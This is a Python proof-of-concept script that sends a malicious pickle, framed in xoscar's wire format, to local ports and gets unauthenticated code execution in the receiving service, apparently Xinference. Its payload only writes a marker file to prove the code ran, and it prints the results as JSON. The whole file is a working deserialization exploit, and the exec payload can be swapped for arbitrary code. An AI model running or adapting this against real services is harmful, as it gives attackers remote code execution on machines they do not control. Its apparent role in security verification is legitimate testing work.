# SPDX-License-Identifier: GPL-3.0-or-later
"""Send a frame that contains code to ports of 127.0.0.1, without any credential. The arguments are the ports.

The frame is xoscar's first version: 11 bytes of prefix, then a pickle that the receiver loads before it checks
anything. Loading it writes the file ``$XINFERENCE_HOME/tmp/reached-<port>``, which proves that the code ran. Prints one
JSON object: port -> what happened to the connection.
"""

from __future__ import annotations

import json
import pickle
import socket
import struct
import sys


class Code:
    """The code that runs when the pickle is loaded."""

    def __init__(self, port: int) -> None:
        self.port = port

    def __reduce__(self) -> tuple[object, tuple[str]]:
        # Python only: the service's unit may refuse a shell or a program.
        return exec, (f"import os; open(os.environ['XINFERENCE_HOME'] + '/tmp/reached-{self.port}', 'w').close()",)


def attack(port: int) -> str:
    header = pickle.dumps([{"is_cuda_buffers": [], "buf_sizes": []}, Code(port)])
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
            connection.sendall(struct.pack("<BQH", 1, len(header), 0) + header)
            answer = connection.recv(4096)
    except OSError as error:
        return f"broke off ({type(error).__name__})"
    return f"answered {answer[:60]!r}" if answer else "closed"


print(json.dumps({port: attack(int(port)) for port in sys.argv[1:]}))
